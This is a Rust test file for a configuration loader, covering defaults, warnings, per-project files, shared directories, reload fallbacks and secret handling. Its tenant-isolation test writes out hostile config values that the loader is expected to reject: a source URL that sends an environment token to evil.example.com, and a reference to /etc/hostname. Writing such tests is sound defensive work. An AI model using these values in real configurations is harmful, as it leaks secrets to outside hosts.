//! Files together: namespaces, sharing, a bad file beside good ones, and what holds when nothing is written.

use std::fs;
use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

use super::{environment, read};
use crate::config::{Checks, Complaint, Format, Loaded, Problems, Require, Source, TokenHash, load};

/// A folder with a main file and project files.
struct Folder(tempfile::TempDir);

impl Folder {
    fn with(main: &str, projects: &[(&str, &str)]) -> Self {
        let folder = Self(tempfile::tempdir().unwrap());
        fs::create_dir(folder.path().join("projects")).unwrap();
        folder.write("calldex.toml", main);
        projects.iter().for_each(|(name, text)| folder.write(&format!("projects/{name}"), text));
        folder
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    fn write(&self, name: &str, text: &str) {
        fs::write(self.path().join(name), text).unwrap();
    }

    fn load(&self) -> Result<Loaded, Problems> {
        load(&self.path().join("calldex.toml"), &environment, &Checks::NONE)
    }

    /// A text without the folder's path.
    fn shorten(&self, text: impl ToString) -> String {
        text.to_string().replace(&format!("{}/", self.path().display()), "")
    }

    /// The problems of the files that failed, one a line.
    fn failures(&self, loaded: &Loaded) -> String {
        let failures = loaded.failed_files.iter().map(|failed| self.shorten(&failed.problems));
        failures.collect::<Vec<_>>().join("\n")
    }
}

const MAIN: &str = "\
[directory.shared]
shared = true
[directory.private]
[project.sales]
country = \"RO\"
allow = [\"203.0.113.10\"]
sources = [\"private\", \"shared\"]
";

fn project(name: &str, sources: &str) -> String {
    format!("[project.{name}]\ncountry = \"RO\"\nallow = [\"203.0.113.20\"]\nsources = [{sources}]\n")
}

#[test]
fn an_empty_file_has_the_documented_defaults() {
    let config = read("").unwrap();
    assert_eq!(config.server.listen, SocketAddr::from(([127, 0, 0, 1], 8080)));
    assert_eq!(config.server.store, Path::new("calldex.db"));
    assert_eq!(config.server.max_connections, 10_000);
    assert_eq!(config.server.idle_timeout, Duration::from_secs(30));
    assert_eq!(config.server.refused_per_minute, 30);
    assert_eq!(config.log.slow, Duration::from_millis(500));
    assert_eq!(config.cache.found, Duration::from_secs(900));
    assert_eq!(config.cache.unknown, Duration::from_secs(60));
    assert_eq!(config.cache.stale, Duration::from_secs(86_400));
    assert_eq!(config.cache.found_entries, 200_000);
    assert_eq!(config.cache.unknown_entries, 100_000);
    assert_eq!(config.cache.number_entries, 200_000);
    let config = read(&project("p", "")).unwrap();
    let project = &config.projects["p"];
    assert_eq!(project.deadline, Duration::from_millis(800));
    assert_eq!(project.timezone, "UTC");
    assert_eq!(project.access.require, Require::All);
    assert_eq!(project.reply.format, Format::Json);
    assert!(!project.reply.extended && !project.fill && !project.guesses.tail);
    assert_eq!((&project.reply.direct_lines, project.rate), (&None, None));
}

#[test]
fn what_is_written_is_what_holds() {
    let text = "[server]\nlisten = \"[::1]:9\"\nadmin_tokens = [{ token = \"a-long-enough-token\", expires = \
                2026-12-31T00:00:00Z }]\n[project.p]\ntokens = [\"x${SALES_TOKEN}\"]\nallow = [\"::ffff:10.1.2.3/104\"]\n\
                deadline = \"1.5s\"\nqueue_position = 7\ndirect_lines = []\nlink_schemes = [\"TEL\"]\nformat = \"xml\"\n";
    let config = read(text).unwrap();
    let project = &config.projects["p"];
    assert_eq!(config.server.admin_tokens[0].expires, Some(1_798_675_200_000));
    assert_eq!(project.access.tokens[0].hash, TokenHash::of("xa-token-of-more-than-16-characters"));
    assert_eq!(project.access.allow[0].to_string(), "10.0.0.0/8");
    assert_eq!(project.deadline, Duration::from_millis(1_500));
    assert_eq!(project.defaults.queue_position.as_deref(), Some("7"));
    assert_eq!(project.reply.direct_lines, Some(Vec::new()));
    assert_eq!(project.reply.link_schemes, ["tel"]);
    assert_eq!(project.reply.format, Format::Xml);
}

#[test]
fn what_is_probably_not_meant_gets_a_warning() {
    let text = "[project.p]\nallow = [\"0.0.0.0/0\"]\nrequire = \"any\"\n[project.q]\ntokens = [\"short\"]\n";
    let warnings = read(text).unwrap().warnings.join("\n");
    insta::assert_snapshot!(warnings);
}

#[test]
fn a_trusted_proxy_on_a_list_of_those_who_may_ask_gets_a_warning() {
    let of = |proxies: &str| {
        let lists =
            "metrics_allow = [\"10.0.0.7\"]\n[project.p]\ncountry = \"RO\"\nallow = [\"192.0.2.1\", \"127.0.0.1\"]\n";
        let text = format!("[server]\ntrusted_proxies = [{proxies}]\n{lists}sources = [\"d\"]\n[directory.d]\n");
        read(&text).unwrap().warnings
    };
    assert_eq!(of("\"10.0.0.8\", \"192.0.2.128/25\""), Vec::<String>::new());
    assert_eq!(
        of("\"127.0.0.0/8\", \"10.0.0.0/24\""),
        [
            "calldex.toml:3:17: metrics_allow in [server] has 10.0.0.7/32, one of trusted_proxies: what comes from there \
             counts as coming from whom the proxy names, so this entry lets nobody in",
            "calldex.toml:6:9: allow in [project.p] has 127.0.0.1/32, one of trusted_proxies: what comes from there counts \
             as coming from whom the proxy names, so this entry lets nobody in",
        ]
    );
}

#[test]
fn a_source_that_gives_up_before_its_project_gets_a_warning() {
    let of = |timeout: &str| {
        let source = format!("[source.crm]\ntype = \"generic\"\ntimeout = \"{timeout}\"\n");
        read(&format!(
            "{source}[project.p]\ncountry = \"RO\"\ntokens = [\"a-token-of-16-letters\"]\nsources = [\"crm\"]\n"
        ))
        .unwrap()
        .warnings
    };
    assert_eq!(of("801ms"), Vec::<String>::new());
    let warnings = of("800ms");
    let expected =
        "calldex.toml:3:11: [source.crm]: the timeout is not longer than the deadline of the project p (800ms)";
    assert!(warnings.len() == 1 && warnings[0].starts_with(expected), "{warnings:?}");
}

#[test]
fn paths_start_at_the_folder_of_the_main_file_and_a_secret_file_loses_its_line_end() {
    let folder = Folder::with("[project.p]\ntokens = [{ file = \"secret\" }]\n", &[]);
    folder.write("secret", "a-token-out-of-a-file\r\n");
    let loaded = folder.load().unwrap();
    assert_eq!(loaded.config.server.store, folder.path().join("calldex.db"));
    assert_eq!(loaded.config.projects["p"].access.tokens[0].hash, TokenHash::of("a-token-out-of-a-file"));
    folder.write("secret", "\n");
    let problems = folder.shorten(folder.load().unwrap_err());
    let expected =
        "calldex.toml:2:20: file in [project.p.tokens]: cannot read the secret from \"secret\": the file is empty";
    assert_eq!(problems, expected);
}

#[test]
fn a_project_file_keeps_its_directories_to_itself_and_may_use_shared_ones() {
    let acme = project("acme", "\"customers\", \"shared\"") + "[directory.customers]\n";
    let globex = project("globex", "\"customers\"") + "[directory.customers]\n";
    let folder =
        Folder::with(MAIN, &[("acme.toml", &acme), ("globex.toml", &globex), (".acme.toml", "x"), ("a.bak", "x")]);
    let loaded = folder.load().unwrap();
    assert_eq!(folder.failures(&loaded), "");
    let sources = |name: &str| loaded.config.projects[name].sources.join(" ");
    assert_eq!(sources("acme"), "acme/customers shared");
    assert_eq!(sources("globex"), "globex/customers");
    assert_eq!(sources("sales"), "private shared");
    let directories: Vec<&str> = loaded.config.directories.keys().map(AsRef::as_ref).collect();
    assert_eq!(directories, ["acme/customers", "globex/customers", "private", "shared"]);
    assert!(loaded.effective.contains("[directory.\"acme/customers\"]"), "{}", loaded.effective);
    toml::from_str::<toml::Table>(&loaded.effective).unwrap();
}

#[test]
fn a_file_that_takes_what_is_not_its_own_fails_alone_and_says_why() {
    let cases = [
        ("private.toml", project("private", "\"private\"")),
        ("other.toml", project("other", "\"customers\", \"shred\"")),
        ("twice.toml", project("sales", "\"shared\"")),
        ("server.toml", "[server]\nlisten = \"0.0.0.0:80\"\n".to_owned()),
        ("sharing.toml", "[directory.x]\nshared = true\n".to_owned()),
        ("Bad Name.toml", String::new()),
        ("syntax.toml", "[project".to_owned()),
        ("good.toml", project("good", "\"shared\"")),
    ];
    let cases: Vec<(&str, &str)> = cases.iter().map(|(name, text)| (*name, text.as_str())).collect();
    let folder = Folder::with(MAIN, &cases);
    let loaded = folder.load().unwrap();
    let projects: Vec<&str> = loaded.config.projects.keys().map(AsRef::as_ref).collect();
    assert_eq!(projects, ["good", "sales"]);
    insta::assert_snapshot!(folder.failures(&loaded));
}

#[test]
fn a_problem_in_the_main_file_refuses_everything_and_names_the_others_too() {
    let folder = Folder::with("[log]\nslow = 1\n", &[("acme.toml", "[project.acme]\ncountry = \"RO\"\n")]);
    let problems = folder.shorten(folder.load().unwrap_err());
    let lines: Vec<&str> = problems.lines().collect();
    assert!(lines[0].starts_with("calldex.toml:2:8: slow in [log] is 1"), "{problems}");
    assert!(lines[1].starts_with("projects/acme.toml:1:10: [project.acme] is protected by nothing"), "{problems}");
}

#[test]
fn a_file_that_breaks_keeps_its_last_good_copy_while_the_others_change() {
    let acme = project("acme", "\"customers\", \"shared\"") + "[directory.customers]\n";
    let folder = Folder::with(MAIN, &[("acme.toml", &acme), ("globex.toml", &project("globex", "\"shared\""))]);
    let previous = folder.load().unwrap().config;
    folder.write("projects/acme.toml", "[project.acme]\n");
    folder.write("projects/globex.toml", &project("globex", ""));
    let mut loaded = folder.load().unwrap();
    assert!(!loaded.config.projects.contains_key("acme"));
    let notes = loaded.config.keep_last_good(&previous, &loaded.failed_files);
    assert_eq!(folder.shorten(notes.join("\n")), "projects/acme.toml has problems; its earlier copy stays in use");
    assert_eq!(loaded.config.projects["acme"].sources, previous.projects["acme"].sources);
    assert!(loaded.config.directories.contains_key("acme/customers"));
    assert!(loaded.config.projects["globex"].sources.is_empty());
    // A second reload with the same mistake finds the copy again.
    let mut again = folder.load().unwrap();
    again.config.keep_last_good(&loaded.config, &again.failed_files);
    assert!(again.config.projects.contains_key("acme"));
}

#[test]
fn a_last_good_copy_that_does_not_fit_any_more_is_dropped_with_its_reason() {
    let open = "[project.acme]\nopen = true\n";
    let cases = [
        (
            project("acme", "\"shared\""),
            "[directory.shared]\n",
            "uses \"shared\", which is gone or not shared any more",
        ),
        (project("acme", ""), "[project.acme]\nallow = [\"10.0.0.1\"]\n", "is now defined elsewhere"),
        (open.to_owned(), "[server]\nlisten = \"0.0.0.0:80\"\n", "is open, and the listener is not private any more"),
    ];
    for (acme, new_main, reason) in cases {
        let folder = Folder::with(MAIN, &[("acme.toml", &acme)]);
        let previous = folder.load().unwrap().config;
        assert!(previous.projects.contains_key("acme"));
        folder.write("calldex.toml", new_main);
        folder.write("projects/acme.toml", "broken");
        let mut loaded = folder.load().unwrap();
        let before = loaded.config.projects.len();
        let notes = loaded.config.keep_last_good(&previous, &loaded.failed_files);
        let expected =
            format!("projects/acme.toml has problems, and its earlier copy cannot stay: the project \"acme\" {reason}");
        assert_eq!(folder.shorten(notes.join("\n")), expected);
        assert_eq!(loaded.config.projects.len(), before);
    }
}

#[test]
fn a_new_file_with_problems_has_no_copy_to_keep() {
    let folder = Folder::with(MAIN, &[]);
    let previous = folder.load().unwrap().config;
    folder.write("projects/acme.toml", "broken");
    let mut loaded = folder.load().unwrap();
    let notes = loaded.config.keep_last_good(&previous, &loaded.failed_files);
    let expected = "projects/acme.toml has problems and no earlier copy; its projects do not answer";
    assert_eq!(folder.shorten(notes.join("\n")), expected);
}

#[test]
fn the_default_project_may_stand_in_a_file_that_has_problems_today() {
    let main = "[server]\ndefault_project = \"acme\"\n";
    let folder = Folder::with(main, &[("acme.toml", &project("acme", ""))]);
    assert_eq!(folder.load().unwrap().config.server.default_project.as_deref(), Some("acme"));
    folder.write("projects/acme.toml", "broken");
    let warnings = folder.shorten(folder.load().unwrap().config.warnings.join("\n"));
    assert!(warnings.starts_with("calldex.toml:2:19: default_project in [server] is \"acme\""), "{warnings}");
    fs::remove_file(folder.path().join("projects/acme.toml")).unwrap();
    assert!(folder.load().is_err());
}

#[test]
fn a_file_that_is_not_text_and_one_that_begins_with_a_byte_order_mark() {
    let folder = Folder::with("\u{feff}[log]\nslow = \"1s\"\n", &[]);
    assert_eq!(folder.load().unwrap().config.log.slow, Duration::from_secs(1));
    fs::write(folder.path().join("calldex.toml"), b"[log]\n\xff").unwrap();
    let problems = folder.shorten(folder.load().unwrap_err());
    assert_eq!(
        problems,
        "calldex.toml: expected text in UTF-8, found something else at byte 6; `--config FILE` or CALLDEX_CONFIG names another, `calldex demo` needs none"
    );
}

#[test]
fn the_owner_of_a_source_is_asked_and_its_complaint_has_a_place() {
    let folder = Folder::with(
        "[source.crm]\ntype = \"generic\"\nurl = \"https://${HOST}/?key=${KEY}\"\nparams = \"a=1&b=${KEY}\"\n",
        &[("acme.toml", "[source.helpdesk]\ntype = \"generc\"\n")],
    );
    let complain = |source: &Source| match source.api_type.as_str() {
        "generic" => Vec::new(),
        _ => vec![Complaint::mistake(Some("type"), "there is no such type")],
    };
    let checks = Checks { source: &complain, ..Checks::NONE };
    let environment = |name: &str| match name {
        "HOST" => Some("crm.example.com".to_owned()),
        "KEY" => Some("x&y z".to_owned()),
        _ => None,
    };
    let loaded = load(&folder.path().join("calldex.toml"), &environment, &checks).unwrap();
    let source = &loaded.config.sources["crm"];
    assert_eq!(source.url.as_ref().unwrap().reveal(), "https://crm.example.com/?key=x%26y%20z");
    assert_eq!(source.params.text(&["b"]), Some("x&y z"));
    let failed = loaded.failed_files[0].problems.to_string();
    assert!(failed.ends_with("acme.toml:2:8: [source.helpdesk]: there is no such type"), "{failed}");
    assert!(!loaded.effective.contains("x&y") && !format!("{:?}", loaded.config).contains("x&y"));
}

#[test]
fn a_source_is_found_and_shared_as_a_directory_is() {
    let source = "[source.crm]\ntype = \"generic\"\n";
    let project = "[project.acme]\nallow = [\"203.0.113.10\"]\ncountry = \"RO\"\nsources = [\"crm\"]\n";
    let folder = Folder::with(source, &[("acme.toml", project)]);
    let failed = folder.load().unwrap().failed_files[0].problems.to_string();
    assert!(failed.contains("does not share it: write shared = true in its [source.crm]"), "{failed}");
    folder.write("calldex.toml", &format!("{source}shared = true\n"));
    assert_eq!(folder.load().unwrap().config.projects["acme"].sources, ["crm".into()]);
    folder.write("projects/acme.toml", &format!("{source}{project}"));
    assert_eq!(folder.load().unwrap().config.projects["acme"].sources, ["acme/crm".into()]);
}

#[test]
fn a_tenant_takes_nothing_from_the_environment_and_the_files_of_calldex() {
    let tenant = |sections: &str| {
        format!(
            "{sections}[directory.d]\n[project.shop]\ncountry = \"RO\"\ntokens = [\"${{SALES_TOKEN}}\"]\nsources = [\"d\"]\n\
             tenant = true\n"
        )
    };
    let source = "[source.s]\ntype = \"generic\"\n";
    let journal = "[journal.j]\nurl = \"https://crm.example.com/\"\n";
    for (sections, at) in [
        (format!("{source}url = \"https://evil.example.com/${{SALES_TOKEN}}\"\n"), "shop.toml:3:7: url in [source.s]"),
        (format!("{source}url = \"https://a/\"\nparams = \"k=${{SALES_TOKEN}}\"\n"), "shop.toml:4:10: params in"),
        (
            format!("{source}url = \"https://a/\"\n[source.s.params]\nk = [\"${{SALES_TOKEN}}\"]\n"),
            "params in [source.s]",
        ),
        (
            format!("{source}url = \"https://a/\"\nparams = {{ k = {{ file = \"/etc/hostname\" }} }}\n"),
            "shop.toml:4:10: params in",
        ),
        (format!("{journal}token = \"${{SALES_TOKEN}}\"\n"), "shop.toml:3:9: token in [journal.j]"),
    ] {
        let folder = Folder::with(MAIN, &[("shop.toml", &tenant(&sections))]);
        let failures = folder.failures(&folder.load().unwrap());
        assert!(failures.contains(at) && failures.contains("which a tenant may not"), "{sections}: {failures}");
    }
    let map = format!("{source}url = \"https://a/\"\nmap = {{ file = \"a.file\" }}\n");
    for harmless in [format!("{source}url = \"https://a/$${{x}}\"\n"), map, String::new()] {
        let folder = Folder::with(MAIN, &[("shop.toml", &tenant(&harmless))]);
        let loaded = folder.load().unwrap();
        assert_eq!(folder.failures(&loaded), "", "{harmless}");
    }
    let main = format!("{MAIN}tenant = true\n{source}url = \"https://a/${{SALES_TOKEN}}\"\n");
    assert!(Folder::with(&main, &[]).load().is_ok(), "it is not the tenant's");
    let main = main.replace("\"shared\"]", "\"shared\", \"s\"]");
    assert!(Folder::with(&main, &[]).load().is_err());
}
